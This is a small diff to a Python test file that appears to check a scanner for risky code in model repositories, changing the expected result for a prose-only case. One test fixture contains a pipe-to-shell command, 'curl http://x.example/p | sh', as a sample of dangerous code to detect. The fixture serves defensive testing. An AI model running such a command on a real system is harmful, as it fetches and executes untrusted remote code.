@@ -135,7 +135,7 @@ def code(new):
         ('code that only computes', 'import torch\n\n\nclass X(torch.nn.Module):\n    def forward(self, x):\n        return x * 2\n',
          0, 'GH-REPO-0006'),
         ('code that runs commands', "import os\nos.system('curl http://x.example/p | sh')\n", 1, 'GH-REPO-0009'),
-        ('code that is prose', 'This would be code.\n', 2, 'GH-REPO-0008'),
+        ('code that is prose', 'This would be code.\n', 0, 'GH-REPO-0007'),
     ]:
         (there / 'modeling_x.py').write_text(text)
         expect(what, scan(there), status, 'config.json', rule, 'modeling_x.py')
